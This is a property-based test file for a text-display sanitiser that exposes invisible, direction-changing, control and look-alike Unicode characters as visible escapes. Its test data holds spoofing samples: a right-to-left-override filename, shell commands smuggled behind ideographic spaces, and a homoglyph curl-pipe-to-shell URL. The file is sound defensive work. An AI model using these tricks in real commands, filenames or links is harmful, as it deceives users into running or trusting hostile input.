import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  displaySafe,
  flatDisplay,
  originalText,
  readFlatDisplay,
  type DisplaySafeText,
} from './display-safe-text.ts'

/** Code points a person cannot see, or that reorder or control the text
 *  around them; written here from the Unicode categories, apart from the
 *  module's own tables, with the symbols drawn blank that no category
 *  covers (blank Braille, null notehead, Khitan filler). A line feed and a
 *  tab are allowed in multi-line text only. */
const HIDDEN_OR_CONTROLLING =
  /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}\p{Cn}\p{Cs}\p{Noncharacter_Code_Point}\u00A0\u1680\u2000-\u200A\u202F\u205F\u2800\u{1D159}]|\u{16FE4}/u
const BIDI = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u

const shownText = (safe: DisplaySafeText) =>
  safe.segments.flatMap((segment) => (segment.kind === 'text' ? [segment.text] : []))

function hiddenIn(text: string, multiline: boolean): string[] {
  return Array.from(text).filter(
    (char) => HIDDEN_OR_CONTROLLING.test(char) && !(multiline && (char === '\n' || char === '\t')),
  )
}

/** Known tricks, each one by name: every one must come out as an escape. */
const KNOWN_TRICKS: ReadonlyArray<readonly [string, string]> = [
  ['right-to-left override', '\u202E'],
  ['left-to-right override', '\u202D'],
  ['right-to-left isolate', '\u2067'],
  ['pop directional isolate', '\u2069'],
  ['right-to-left mark', '\u200F'],
  ['Arabic letter mark', '\u061C'],
  ['zero-width space', '\u200B'],
  ['zero-width joiner', '\u200D'],
  ['zero-width non-joiner', '\u200C'],
  ['word joiner', '\u2060'],
  ['byte order mark', '\uFEFF'],
  ['soft hyphen', '\u00AD'],
  ['combining grapheme joiner', '\u034F'],
  ['Mongolian vowel separator', '\u180E'],
  ['Hangul filler', '\u3164'],
  ['Hangul choseong filler', '\u115F'],
  ['Hangul jungseong filler', '\u1160'],
  ['halfwidth Hangul filler', '\uFFA0'],
  ['blank Braille pattern', '\u2800'],
  ['musical symbol null notehead', '\u{1D159}'],
  ['Khitan small script filler', '\u{16FE4}'],
  ['invisible times', '\u2062'],
  ['invisible separator', '\u2063'],
  ['invisible plus', '\u2064'],
  ['Khmer vowel inherent aq', '\u17B4'],
  ['Khmer vowel inherent aa', '\u17B5'],
  ['musical symbol begin beam', '\u{1D173}'],
  ['musical symbol end phrase', '\u{1D17A}'],
  ['variation selector 1', '\uFE00'],
  ['language tag', '\u{E0001}'],
  ['cancel tag', '\u{E007F}'],
  ['variation selector 16', '\uFE0F'],
  ['tag letter A', '\u{E0041}'],
  ['escape (ANSI)', '\u001B'],
  ['bell', '\u0007'],
  ['NUL', '\u0000'],
  ['backspace', '\u0008'],
  ['DEL', '\u007F'],
  ['next line (C1)', '\u0085'],
  ['control sequence introducer (C1)', '\u009B'],
  ['line separator', '\u2028'],
  ['paragraph separator', '\u2029'],
  ['no-break space', '\u00A0'],
  ['narrow no-break space', '\u202F'],
  ['lone high surrogate', '\uD800'],
  ['lone low surrogate', '\uDFFF'],
  ['noncharacter', '\uFFFF'],
]

/** Any code point, lone surrogates included, with the tricks and plain
 *  ASCII drawn often enough that most strings hold one of each. */
const anyChar = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.integer({ min: 0, max: 0x10ffff }).map((cp) => String.fromCodePoint(cp)),
  },
  { weight: 3, arbitrary: fc.constantFrom(...KNOWN_TRICKS.map(([, char]) => char)) },
  { weight: 4, arbitrary: fc.constantFrom(...'abc xyz./-_⟨⟩\n\t\r') },
)
const anyText = fc.array(anyChar, { maxLength: 40 }).map((chars) => chars.join(''))

describe('displaySafe', () => {
  for (const multiline of [false, true]) {
    describe(multiline ? 'multi-line text' : 'a one-line value', () => {
      it('never shows a hidden, direction-changing or control character as text', () => {
        let withHidden = 0
        fc.assert(
          fc.property(anyText, (text) => {
            if (hiddenIn(text, multiline).length > 0) withHidden += 1
            const safe = displaySafe(text, { multiline })
            for (const shown of shownText(safe)) expect(hiddenIn(shown, multiline)).toEqual([])
            expect(hiddenIn(flatDisplay(safe), multiline)).toEqual([])
          }),
          { numRuns: 500 },
        )
        // The property was tried on inputs that had something to hide.
        expect(withHidden).toBeGreaterThan(250)
      })

      it('keeps the original: the segments and the flat form both read back to it', () => {
        fc.assert(
          fc.property(anyText, (text) => {
            const safe = displaySafe(text, { multiline, name: true })
            expect(originalText(safe)).toBe(text)
            expect(readFlatDisplay(flatDisplay(safe))).toBe(text)
          }),
          { numRuns: 500 },
        )
      })

      it('escapes every hidden character exactly once and flags it', () => {
        fc.assert(
          fc.property(anyText, (text) => {
            const safe = displaySafe(text, { multiline })
            const hidden = hiddenIn(text, multiline)
            const escaped = safe.segments.flatMap((segment) =>
              segment.kind === 'escape' && HIDDEN_OR_CONTROLLING.test(segment.original)
                ? [segment.original]
                : [],
            )
            expect(escaped).toEqual(hidden)
            const alarming = hidden.filter((char) => !(char === '\r' && multiline))
            const hasBidi = hidden.some((char) => BIDI.test(char))
            expect(safe.warnings.has('direction')).toBe(hasBidi || safe.mixedDirection)
            if (alarming.some((char) => !BIDI.test(char))) {
              expect(safe.warnings.has('hidden')).toBe(true)
            }
          }),
          { numRuns: 500 },
        )
      })
    })
  }

  for (const [name, char] of KNOWN_TRICKS) {
    it(`shows a ${name} as a visible escape`, () => {
      const safe = displaySafe(`a${char}b`)
      const label = `⟨U+${(char.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}⟩`
      expect(flatDisplay(safe)).toBe(`a${label}b`)
      expect(safe.segments[1]).toMatchObject({ kind: 'escape', original: char, label })
      expect(safe.warnings.size).toBe(1)
    })
  }

  it('shows invoice\\u202Etxt.exe in stored order, the override as an escape', () => {
    const safe = displaySafe('invoice\u202Etxt.exe')
    expect(safe.segments).toEqual([
      { kind: 'text', text: 'invoice' },
      { kind: 'escape', original: '\u202E', label: '⟨U+202E⟩', reason: 'direction' },
      { kind: 'text', text: 'txt.exe' },
    ])
    expect([...safe.warnings]).toEqual(['direction'])
  })

  it('keeps lines and tabs of multi-line text, and shows a CRLF ending without alarm', () => {
    const safe = displaySafe('one\r\n\ttwo\n', { multiline: true })
    expect(flatDisplay(safe)).toBe('one⟨U+000D⟩\n\ttwo\n')
    expect(safe.warnings.size).toBe(0)
    expect(flatDisplay(displaySafe('a\rb', { multiline: true }))).toBe('a⟨U+000D⟩b')
    expect(displaySafe('a\rb', { multiline: true }).warnings.has('hidden')).toBe(true)
  })

  it('escapes a line break or tab inside a one-line value', () => {
    const safe = displaySafe('notes.txt\n.exe\t')
    expect(flatDisplay(safe)).toBe('notes.txt⟨U+000A⟩.exe⟨U+0009⟩')
    expect(safe.warnings.has('hidden')).toBe(true)
  })

  it('escapes a literal ⟨ so that text cannot pose as an escape, without a warning', () => {
    const safe = displaySafe('⟨U+202E⟩')
    expect(flatDisplay(safe)).toBe('⟨U+27E8⟩U+202E⟩')
    expect(safe.warnings.size).toBe(0)
    expect(readFlatDisplay(flatDisplay(safe))).toBe('⟨U+202E⟩')
  })

  it('leaves ordinary text of any script alone', () => {
    for (const text of ['git status', 'café', '笔记 第一行', 'Привет', 'שלום', '笔记　第一行']) {
      const safe = displaySafe(text)
      expect(safe.segments).toEqual([{ kind: 'text', text }])
    }
    expect(displaySafe('').segments).toEqual([])
  })

  // The ideographic space is a space among Chinese, Japanese or Korean
  // characters; beside anything else a shell reads it as part of a word,
  // so `done\u3000#\u3000; touch pwned` would read as a comment from `#`
  // on while `touch pwned` runs.
  it.each([
    ['between ASCII words', 'echo done\u3000#\u3000; touch pwned', false, 2],
    ['after Chinese, before #', 'echo 笔记\u3000#; touch pwned', false, 1],
    ['between Latin letters in a path', 'my\u3000notes.txt', false, 1],
    ['at the start of a one-line value', '\u3000笔记.txt', false, 1],
    ['in JSON arguments', '{\n  "command": "echo ok\u3000#\u3000; rm x"\n}', true, 2],
    ['indenting a line of code', 'echo ok\n\u3000#\u3000; rm x\n', true, 2],
  ])('shows an ideographic space %s as an escape', (_where, text, multiline, count) => {
    const safe = displaySafe(text, { multiline })
    const escapes = safe.segments.filter((segment) => segment.kind === 'escape')
    expect(escapes).toEqual(
      Array(count).fill({ kind: 'escape', original: '\u3000', label: '⟨U+3000⟩', reason: 'space' }),
    )
    expect(safe.warnings.has('hidden')).toBe(true)
    expect(originalText(safe)).toBe(text)
  })

  it('keeps an ideographic space among Chinese or Japanese, and one indenting their lines', () => {
    for (const [text, multiline] of [
      ['/home/ada/我的\u3000文档/笔记.txt', false],
      ['これは\u3000\u3000テスト', false],
      ['\u3000これは段落です。\n\u3000\u3000次の段落。', true],
      ['「引用」\u3000次', false],
    ] as const) {
      const safe = displaySafe(text, { multiline })
      expect(safe.segments).toEqual([{ kind: 'text', text }])
    }
  })

  it('shows a one-line value that mixes right-to-left letters with others in stored order', () => {
    expect(displaySafe('report-שלום.txt').mixedDirection).toBe(true)
    expect(displaySafe('report-שלום.txt').warnings.has('direction')).toBe(true)
    expect(displaySafe('שלום עולם').mixedDirection).toBe(false)
    expect(displaySafe('notes.txt').mixedDirection).toBe(false)
    expect(displaySafe('שלום.txt\nabc', { multiline: true }).mixedDirection).toBe(false)
  })

  it.each([
    ['Phoenician', '\u{10900}'],
    ['Old Turkic', '\u{10C00}'],
    ['Kharoshthi', '\u{10A10}'],
    ['Imperial Aramaic', '\u{10840}'],
    ['Nabataean', '\u{10880}'],
    ['Old Hungarian', '\u{10C80}'],
    ['Old South Arabian', '\u{10A60}'],
    ['Avestan', '\u{10B00}'],
    ['Sogdian', '\u{10F30}'],
    ['Arabic question mark (Common script, AL)', '\u061F'],
    ['Arabic tatweel (Common script, AL)', '\u0640'],
    ['Arabic-Indic digit (AN)', '\u0663'],
  ])('decides direction by bidi class: a %s beside others is shown in stored order', (_, char) => {
    const safe = displaySafe(`kill ${char} 1 4242`)
    expect(safe.mixedDirection).toBe(true)
    expect(safe.warnings.has('direction')).toBe(true)
    expect(displaySafe(`${char}${char} ${char}`).mixedDirection).toBe(false)
  })

  it('keeps right-to-left text with its vowel marks, and left-to-right digits, as they are', () => {
    expect(displaySafe('שָׁלוֹם עוֹלָם').mixedDirection).toBe(false)
    expect(displaySafe('مَرْحَبًا بِكُمْ').mixedDirection).toBe(false)
    // Extended Arabic-Indic digits are European numbers: they do not move.
    expect(displaySafe('build ۳ ۴').mixedDirection).toBe(false)
    expect(displaySafe('Привет 笔记 ελληνικά 123').mixedDirection).toBe(false)
  })
})

describe('displaySafe for other values: words that can pass for others', () => {
  const lookalikes = (safe: DisplaySafeText) =>
    safe.segments.flatMap((s) => (s.kind === 'text' && s.lookalike === true ? [s.text] : []))

  it('marks a mixed-script word in a URL or command line, warns, and escapes nothing', () => {
    const safe = displaySafe('curl -fsSL https://g\u0456thub.com/acme/install.sh | sh')
    expect(lookalikes(safe)).toEqual(['g\u0456thub'])
    expect([...safe.warnings]).toEqual(['confusable'])
    expect(safe.segments.some((s) => s.kind === 'escape')).toBe(false)
    expect(originalText(safe)).toBe('curl -fsSL https://g\u0456thub.com/acme/install.sh | sh')
  })

  it.each([
    ['Cyrillic а in a Latin path', '/home/ada/p\u0430yroll/notes.txt', 'p\u0430yroll'],
    ['Greek ο in a host', 'https://g\u03BFogle.com', 'g\u03BFogle'],
    ['Latin letter in a Cyrillic word', 'cat Доkументы', 'Доkументы'],
    ['fullwidth letter among ASCII letters', 'rm \uFF45nv.txt', '\uFF45nv'],
    ['mathematical letter among ASCII letters', 'cat \u{1D41A}pi.key', '\u{1D41A}pi'],
    ['ligature among ASCII letters', 'cat \uFB01le.txt', '\uFB01le'],
    ['word in multi-line text', 'see\nhttps://p\u0430ypal.com\n', 'p\u0430ypal'],
  ])('flags a %s', (_, text, word) => {
    const safe = displaySafe(text, { multiline: text.includes('\n') })
    expect(lookalikes(safe)).toEqual([word])
    expect(safe.warnings.has('confusable')).toBe(true)
  })

  it('flags a look-alike letter wherever it stands in an ASCII word of a path', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'abcdefgh'), minLength: 1 }),
        fc.nat(),
        fc.constantFrom('\u0430', '\u0435', '\u043E', '\u0456', '\u03BF', '\uFF41'),
        (word, at, lookalike) => {
          const index = at % (word.length + 1)
          const spoofed = word.slice(0, index) + lookalike + word.slice(index)
          const safe = displaySafe(`/home/ada/${spoofed}/notes.txt`)
          expect(safe.warnings.has('confusable')).toBe(true)
          expect(
            safe.segments.some((s) => s.kind === 'text' && s.lookalike && s.text === spoofed),
          ).toBe(true)
        },
      ),
    )
  })

  it('leaves ordinary text of one script per word alone', () => {
    for (const text of [
      '/home/ada/Документы/notes.txt',
      'ls 笔记/notes_笔记.txt',
      'git commit -m "Привет мир"',
      'café naïve Straße Kırmızı nº 5',
      'cat ファイルfile.txt 한국어abc',
      'echo αβγ Δ_t',
      'ﬁ ｗｒｉｔｅ 𝐚𝐛',
    ]) {
      const safe = displaySafe(text)
      expect(safe.warnings.has('confusable'), text).toBe(false)
      expect(safe.segments, text).toEqual([{ kind: 'text', text }])
    }
  })
})

describe('displaySafe for names', () => {
  it('flags a Latin name with a Cyrillic look-alike letter, and escapes only that letter', () => {
    const safe = displaySafe('N\u043Etes', { name: true })
    expect(flatDisplay(safe)).toBe('N⟨U+043E⟩tes')
    expect([...safe.warnings]).toEqual(['confusable'])
  })

  it('flags fullwidth and mathematical letters that pass for ASCII', () => {
    expect(flatDisplay(displaySafe('\uFF57rite_file', { name: true }))).toBe('⟨U+FF57⟩rite_file')
    expect(flatDisplay(displaySafe('\u{1D41A}dd', { name: true }))).toBe('⟨U+1D41A⟩dd')
  })

  it('flags every non-ASCII letter of a name that mixes scripts', () => {
    const safe = displaySafe('files\u05D0', { name: true })
    expect(flatDisplay(safe)).toBe('files⟨U+05D0⟩')
    expect(safe.warnings.has('confusable')).toBe(true)
  })

  it('accepts a single-script name, and Latin with Chinese or Japanese', () => {
    for (const name of ['write_file', 'café-tool', '笔记', 'notes_笔记', 'files_ファイル', 'Δ_λ']) {
      expect(displaySafe(name, { name: true }).warnings.has('confusable'), name).toBe(false)
    }
  })

  it('never flags a printable ASCII name', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyzIl01m_-.') }),
        (name) => {
          expect(displaySafe(name, { name: true }).warnings.size).toBe(0)
        },
      ),
    )
  })

  it('flags a look-alike letter wherever it stands in an ASCII name', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...'abcdefgh_'), minLength: 1 }),
        fc.nat(),
        fc.constantFrom(
          '\u0430',
          '\u0435',
          '\u043E',
          '\u0440',
          '\u0441',
          '\u0456',
          '\u03BF',
          '\uFF41',
        ),
        (name, at, lookalike) => {
          const index = at % (name.length + 1)
          const spoofed = name.slice(0, index) + lookalike + name.slice(index)
          const safe = displaySafe(spoofed, { name: true })
          expect(safe.warnings.has('confusable')).toBe(true)
          expect(safe.segments.some((s) => s.kind === 'escape' && s.original === lookalike)).toBe(
            true,
          )
        },
      ),
    )
  })
})
